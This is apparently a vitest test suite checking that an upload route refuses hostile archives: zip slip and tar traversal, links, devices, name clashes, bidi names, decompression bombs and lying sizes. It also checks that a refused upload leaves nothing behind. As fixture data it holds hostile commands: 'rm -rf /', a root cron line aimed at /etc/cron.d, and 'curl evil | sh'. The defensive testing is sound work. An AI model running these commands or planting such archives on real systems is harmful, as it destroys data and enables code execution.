// The hostile archive suite: archives built here to hurt a server (escaping their folder, links,
// clashing names, bombs, lying sizes and types, broken names and bytes), each sent to the upload
// route. Each refusal must be 422 CODEBASE.ARCHIVE_REFUSED with its reason and the entry at fault
// (413 for an over-sized body), and must leave nothing behind: the org's storage usage, the
// objects in the storage folder, the codebase tables and the temporary folder are as they were.
// The archives the rules keep (a nested archive, lying types, a gzip that holds no tar) are kept
// as plain files, never expanded.
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { readdir } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { patchDeclaredSize, patchFlags, patchName, rawTar, tarOf, zipOf } from './codebase-archives.ts';
import { bearer, createTestApp, expectProblem, type TestApp } from './harness.ts';
import { call, createProject, projectsUrl } from './projects-fixture.ts';
import { orgWithRoles, type U } from './workspace.ts';

// Uploads use the OS's temporary folder: this file's own, so "nothing left" can be checked there.
const TEMP = mkdtempSync(join(tmpdir(), 'codebase-hostile-'));
process.env.TMPDIR = TEMP;

const MiB = 1024 * 1024;
const LIMITS = { CODEBASE_MAX_ENTRIES: '50', CODEBASE_MAX_EXPANDED_BYTES: String(16 * MiB), CODEBASE_MAX_RATIO: '200', CODEBASE_MAX_FILE_BYTES: String(MiB), CODEBASE_MAX_UPLOAD_BYTES: String(4 * MiB) };
const DATA_DIR = '/tmp/trellis-test-unused'; // test/harness.ts: the local storage driver's folder is DATA_DIR/files

let t: TestApp;
let owner: U;
let orgId: string;
let projectId: string;
const SHARED = 'export const shared = true;\n';

beforeAll(async () => {
  t = await createTestApp({ env: LIMITS });
  const w = await orgWithRoles(t);
  owner = w.owner;
  orgId = w.orgId;
  projectId = (await createProject(t, owner.accessToken, orgId)).id;
  // A snapshot whose content the hostile archives share: a refusal must not free it.
  const first = await upload(await zipOf([{ name: 'shared.ts', data: SHARED }]), 'base.zip');
  expect(first.statusCode, first.body).toBe(201);
  // The checks below look where uploads really put things.
  expect(tmpdir()).toBe(TEMP);
  expect(await objectsOnDisk()).toBe(1);
});
afterAll(async () => {
  await t?.close();
  rmSync(TEMP, { recursive: true, force: true });
});

const base = () => `${projectsUrl(orgId, `/${projectId}`)}/codebase`;
const upload = (bytes: Buffer, name: string, query = '') =>
  t.request({ method: 'POST', url: `${base()}/uploads?name=${encodeURIComponent(name)}${query}`, headers: { ...bearer(owner.accessToken), 'content-type': 'application/octet-stream' }, payload: bytes });

async function objectsOnDisk(): Promise<number> {
  const folder = join(DATA_DIR, 'files', 'orgs', orgId.toLowerCase(), 'codebase', 'blobs');
  return (await readdir(folder).catch(() => [] as string[])).filter((n) => !n.startsWith('.')).length;
}

/** Everything an upload could leave behind. */
async function state() {
  const rows = await sql<{ snapshots: string; files: string; blobs: string; versions: string }>`
    SELECT (SELECT count(*) FROM codebase.snapshots WHERE org_id = ${orgId}) AS snapshots,
           (SELECT count(*) FROM codebase.files WHERE org_id = ${orgId}) AS files,
           (SELECT count(*) FROM codebase.blobs WHERE org_id = ${orgId}) AS blobs,
           (SELECT coalesce(sum(last_version), 0) FROM codebase.codebases WHERE org_id = ${orgId}) AS versions`.execute(t.database.db);
  return { usage: await t.app.storage.usage(orgId), rows: rows.rows[0], objects: await objectsOnDisk(), temp: readdirSync(TEMP) };
}

/** Sends `bytes`; expects the refusal, and that nothing of the upload remains. */
async function expectRefused(bytes: Buffer, name: string, reason: string, entry: string | null) {
  const before = await state();
  const res = await upload(bytes, name);
  expectProblem(res, 422, 'CODEBASE.ARCHIVE_REFUSED');
  expect({ reason: res.json().reason, entry: res.json().entry }).toEqual({ reason, entry });
  expect(await state()).toEqual(before);
  expect(before.temp).toEqual([]);
}

/** 1 MiB that deflates about 60 times: a random 16 KiB block, repeated (deflate's window is 32 KiB). */
const lowRatioMiB = () => {
  const block = Buffer.alloc(16 * 1024);
  for (let i = 0; i < block.length; i++) block[i] = Math.floor(Math.random() * 256);
  return Buffer.concat(Array.from({ length: 64 }, () => block));
};

describe('hostile ZIP archives are refused, naming the entry, and leave nothing behind', () => {
  it('zip slip: a `..` entry', async () => {
    await expectRefused(patchName(await zipOf([{ name: 'ok.txt', data: 'ok' }, { name: 'QQ/evil.sh', data: 'rm -rf /' }]), 'QQ/evil.sh', '../evil.sh'), 'slip.zip', 'path_traversal', '../evil.sh');
  });

  it('zip slip: `..` deeper in the path', async () => {
    await expectRefused(patchName(await zipOf([{ name: 'a/QQ/QQ/x', data: 'x' }]), 'a/QQ/QQ/x', 'a/../../x'), 'deep.zip', 'path_traversal', 'a/../../x');
  });

  it('an absolute path', async () => {
    await expectRefused(patchName(await zipOf([{ name: 'Qetc/passwd', data: 'root' }]), 'Qetc/passwd', '/etc/passwd'), 'abs.zip', 'absolute_path', '/etc/passwd');
  });

  it('a drive letter', async () => {
    await expectRefused(patchName(await zipOf([{ name: 'CQ/win.ini', data: 'x' }]), 'CQ/win.ini', 'C:/win.ini'), 'drive.zip', 'drive_letter', 'C:/win.ini');
  });

  it('backslashes (a traversal on Windows)', async () => {
    await expectRefused(patchName(await zipOf([{ name: 'QQQQQQevil', data: 'x' }]), 'QQQQQQevil', '..\\..\\evil'), 'bs.zip', 'backslash', '..\\..\\evil');
  });

  it('a symlink', async () => {
    await expectRefused(await zipOf([{ name: 'a.txt', data: 'a' }, { name: 'passwd', data: '/etc/passwd', mode: 0o120777, compress: false }]), 'link.zip', 'link', 'passwd');
  });

  it('a FIFO', async () => {
    await expectRefused(await zipOf([{ name: 'pipe', data: '', mode: 0o010644 }]), 'fifo.zip', 'special_file', 'pipe');
  });

  it('names equal but for case', async () => {
    await expectRefused(await zipOf([{ name: 'A.txt', data: 'a' }, { name: 'a.txt', data: 'b' }]), 'case.zip', 'name_clash', 'a.txt');
  });

  it('names equal but for Unicode normalization (é as one or two code points)', async () => {
    await expectRefused(await zipOf([{ name: 'caf\u00e9.txt', data: 'a' }, { name: 'cafe\u0301.txt', data: 'b' }]), 'nfc.zip', 'name_clash', 'cafe\u0301.txt');
  });

  it('folders equal but for case', async () => {
    await expectRefused(await zipOf([{ name: 'Src/a.ts', data: 'a' }, { name: 'src/b.ts', data: 'b' }]), 'folders.zip', 'name_clash', 'src/b.ts');
  });

  it('a file where a folder is', async () => {
    await expectRefused(await zipOf([{ name: 'lib', data: 'a' }, { name: 'lib/x.ts', data: 'b' }]), 'filefolder.zip', 'name_clash', 'lib/x.ts');
  });

  it('the same name twice', async () => {
    await expectRefused(await zipOf([{ name: 'twice.ts', data: 'a' }, { name: 'twice.ts', data: 'b' }]), 'dup.zip', 'name_clash', 'twice.ts');
  });

  it('more entries than CODEBASE_MAX_ENTRIES', async () => {
    await expectRefused(await zipOf(Array.from({ length: 51 }, (_, i) => ({ name: `f${i}.txt`, data: `${i}` }))), 'many.zip', 'too_many_entries', null);
  });

  it('more expanded bytes than CODEBASE_MAX_EXPANDED_BYTES', async () => {
    const mib = lowRatioMiB();
    await expectRefused(await zipOf(Array.from({ length: 20 }, (_, i) => ({ name: `big${i}.bin`, data: mib }))), 'big.zip', 'expanded_too_large', 'big16.bin');
  });

  it('a ratio bomb: 50 MB of zeros deflated', async () => {
    const zip = await zipOf([{ name: 'ok.txt', data: 'ok' }, { name: 'zeros.bin', data: Buffer.alloc(50 * MiB) }]);
    expect(zip.length).toBeLessThan(100_000);
    await expectRefused(zip, 'bomb.zip', 'ratio_exceeded', 'zeros.bin');
  });

  it('a declared size that lies, after files were already stored (they are removed, a shared one is kept)', async () => {
    const text = 'a line of text that repeats\n'.repeat(4000);
    const zip = await zipOf([{ name: 'one.ts', data: 'export const one = 1;\n' }, { name: 'shared.ts', data: SHARED }, { name: 'two.ts', data: 'export const two = 2;\n' }, { name: 'lie.txt', data: text }]);
    await expectRefused(patchDeclaredSize(zip, 'lie.txt', 100), 'lie.zip', 'size_mismatch', 'lie.txt');
    expect((await call(t, owner.accessToken, 'GET', `${base()}/file?path=shared.ts&snapshot=1`)).json().text).toBe(SHARED);
  });

  it('a declared size larger than the bytes', async () => {
    const zip = await zipOf([{ name: 'short.txt', data: 'only a few bytes\n' }]);
    await expectRefused(patchDeclaredSize(zip, 'short.txt', 5000), 'short.zip', 'size_mismatch', 'short.txt');
  });

  it('an encrypted entry', async () => {
    await expectRefused(patchFlags(await zipOf([{ name: 'secret.txt', data: 'x' }]), 'secret.txt', 1), 'enc.zip', 'unsupported_entry', 'secret.txt');
  });

  it('a name that is not UTF-8', async () => {
    await expectRefused(patchName(await zipOf([{ name: 'hQ.txt', data: 'x' }]), 'hQ.txt', Buffer.from([0x68, 0xe9, 0x2e, 0x74, 0x78, 0x74])), 'latin1.zip', 'not_utf8', 'h\ufffd.txt');
  });

  it('a name with bidirectional controls (`txt.exe` shown as `exe.txt`)', async () => {
    await expectRefused(await zipOf([{ name: 'invoice\u202etxt.exe', data: 'x' }]), 'bidi.zip', 'invalid_name', 'invoice\u202etxt.exe');
  });

  it('a truncated archive', async () => {
    const zip = await zipOf([{ name: 'a.txt', data: 'a'.repeat(5000) }, { name: 'b.txt', data: 'b'.repeat(5000) }]);
    await expectRefused(zip.subarray(0, Math.floor(zip.length / 2)), 'cut.zip', 'corrupt', null);
  });

  it('an empty archive, and one of folders only', async () => {
    await expectRefused(await zipOf([]), 'empty.zip', 'empty', null);
    await expectRefused(await zipOf([{ name: 'src/', folder: true }]), 'folders-only.zip', 'empty', null);
  });

  it('an archive whose every file is ignored', async () => {
    await expectRefused(await zipOf([{ name: 'node_modules/x.js', data: 'x' }]), 'ignored.zip', 'empty', null);
  });
});

describe('hostile tar archives', () => {
  it('a `..` entry', async () => {
    await expectRefused(rawTar([{ name: 'ok.txt', data: 'ok' }, { name: '../../etc/cron.d/x', data: '* * * * * root sh' }]), 'slip.tar', 'path_traversal', '../../etc/cron.d/x');
  });

  it('an absolute path', async () => {
    await expectRefused(rawTar([{ name: '/etc/passwd', data: 'root' }]), 'abs.tar', 'absolute_path', '/etc/passwd');
  });

  it('a PAX path that contradicts the header (the PAX one is what extractors use)', async () => {
    await expectRefused(rawTar([{ name: 'harmless.txt', data: 'x', pax: { path: '../pax-escape' } }]), 'pax.tar', 'path_traversal', '../pax-escape');
  });

  it('a symlink, and a hard link', async () => {
    await expectRefused(rawTar([{ name: 'a.txt', data: 'a' }, { name: 'link', flag: '2', linkname: '/etc/passwd' }]), 'sym.tar', 'link', 'link');
    await expectRefused(await tarOf([{ name: 'a.txt', data: 'a' }, { name: 'hard', type: 'link', linkname: 'a.txt' }], { gzip: true }), 'hard.tgz', 'link', 'hard');
  });

  it('a device', async () => {
    await expectRefused(rawTar([{ name: 'dev/sda', flag: '3' }]), 'dev.tar', 'special_file', 'dev/sda');
  });

  it('a name that is not UTF-8', async () => {
    await expectRefused(rawTar([{ name: Buffer.from([0x6e, 0xe4, 0x6d, 0x65]), data: 'x' }]), 'latin1.tar', 'not_utf8', 'n\ufffdme');
  });

  it('names equal but for case', async () => {
    await expectRefused(await tarOf([{ name: 'README', data: 'a' }, { name: 'readme', data: 'b' }]), 'case.tar', 'name_clash', 'readme');
  });

  it('more entries than CODEBASE_MAX_ENTRIES', async () => {
    await expectRefused(await tarOf(Array.from({ length: 51 }, (_, i) => ({ name: `f${i}.txt`, data: 'x' })), { gzip: true }), 'many.tgz', 'too_many_entries', 'f50.txt');
  });

  it('a gzip bomb: a tar of 50 MB of zeros, gzipped', async () => {
    const bomb = await tarOf([{ name: 'zeros.bin', data: Buffer.alloc(50 * MiB) }], { gzip: true });
    expect(bomb.length).toBeLessThan(100_000);
    await expectRefused(bomb, 'bomb.tgz', 'ratio_exceeded', 'zeros.bin');
  });

  it('a truncated tar.gz', async () => {
    const tgz = await tarOf([{ name: 'a.txt', data: lowRatioMiB().subarray(0, 200_000) }], { gzip: true });
    await expectRefused(tgz.subarray(0, Math.floor(tgz.length / 2)), 'cut.tgz', 'corrupt', 'a.txt');
  });

  it('a tar of folders only', async () => {
    await expectRefused(await tarOf([{ name: 'src', type: 'directory' }]), 'folders.tar', 'empty', null);
  });
});

describe('what is kept as a plain file', () => {
  it('a body over CODEBASE_MAX_UPLOAD_BYTES is refused while it streams (413), leaving nothing', async () => {
    const before = await state();
    expectProblem(await upload(Buffer.alloc(4 * MiB + 1, 1), 'huge.bin'), 413, 'STORAGE.TOO_LARGE');
    expect(await state()).toEqual(before);
  });

  it('a nested archive: stored as a binary file, never expanded', async () => {
    const inner = await zipOf([{ name: 'QQ/escape.txt', data: 'x' }]);
    const res = await upload(await zipOf([{ name: 'vendor/inner.zip', data: patchName(inner, 'QQ/escape.txt', '../escape.txt') }]), 'outer.zip');
    expect(res.statusCode, res.body).toBe(201);
    const tree = (await call(t, owner.accessToken, 'GET', `${base()}/tree?path=vendor`)).json();
    expect(tree.entries).toEqual([{ type: 'file', name: 'inner.zip', path: 'vendor/inner.zip', bytes: expect.any(Number), language: null, kind: 'binary' }]);
  });

  it('lying types: a `.png` that is a script is text (shown, never run), a `.ts` that is a PNG is binary (downloaded only)', async () => {
    const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), Buffer.from('IHDR'), Buffer.alloc(17, 1)]);
    const res = await upload(await zipOf([{ name: 'logo.png', data: '#!/bin/sh\ncurl evil | sh\n' }, { name: 'module.ts', data: png }]), 'types.zip');
    expect(res.statusCode, res.body).toBe(201);
    const script = (await call(t, owner.accessToken, 'GET', `${base()}/file?path=logo.png`)).json();
    expect(script).toMatchObject({ kind: 'text', language: 'shell' });
    const fake = await call(t, owner.accessToken, 'GET', `${base()}/file?path=module.ts`);
    expect(fake.headers['content-type']).toBe('application/octet-stream');
    expect(fake.headers['content-disposition']).toMatch(/^attachment;/);
    expect(fake.headers['x-content-type-options']).toBe('nosniff');
  });

  it('a gzip that holds no tar, and bytes that are no archive: one file each, as sent', async () => {
    const { gzipSync } = await import('node:zlib');
    const gz = gzipSync(Buffer.alloc(MiB / 2));
    const res = await upload(gz, 'zeros.gz');
    expect(res.statusCode, res.body).toBe(201);
    const tree = (await call(t, owner.accessToken, 'GET', `${base()}/tree`)).json();
    expect(tree.entries).toContainEqual({ type: 'file', name: 'zeros.gz', path: 'zeros.gz', bytes: gz.length, language: null, kind: 'binary' });
  });

  it('UTF-8 names, long paths and LIKE wildcards come through as they were written', async () => {
    const long = `${'deep/'.repeat(30)}file.ts`;
    // A UTF-8 name in the header itself (as GNU tar writes it), and in PAX records (tar-stream's way).
    const raw = rawTar([{ name: Buffer.from('h\u00e9llo.txt'), data: 'a' }]);
    expect((await upload(raw, 'raw.tar')).statusCode).toBe(201);
    expect((await call(t, owner.accessToken, 'GET', `${base()}/file?path=${encodeURIComponent('h\u00e9llo.txt')}`)).json().text).toBe('a');
    const res = await upload(await tarOf([{ name: 'dossier/\u00e9t\u00e9.md', data: 'b' }, { name: long, data: 'c' }, { name: 'a_b/x.ts', data: 'x' }, { name: 'aXb/y.ts', data: 'y' }], { gzip: true }), 'names.tgz');
    expect(res.statusCode, res.body).toBe(201);
    expect((await call(t, owner.accessToken, 'GET', `${base()}/file?path=${encodeURIComponent('dossier/\u00e9t\u00e9.md')}`)).json().text).toBe('b');
    expect((await call(t, owner.accessToken, 'GET', `${base()}/file?path=${encodeURIComponent(long)}`)).json().text).toBe('c');
    // `_` is a LIKE wildcard: the folder a_b must not list aXb's files.
    const tree = (await call(t, owner.accessToken, 'GET', `${base()}/tree?path=a_b`)).json();
    expect(tree.entries.map((e: { path: string }) => e.path)).toEqual(['a_b/x.ts']);
  });

  it('a single file whose path breaks the rules is refused like an entry', async () => {
    const before = await state();
    const res = await upload(Buffer.from('x'), 'x', `&path=${encodeURIComponent('../x')}`);
    expectProblem(res, 422, 'CODEBASE.ARCHIVE_REFUSED');
    expect(res.json()).toMatchObject({ reason: 'path_traversal', entry: '../x' });
    expect(await state()).toEqual(before);
  });
});
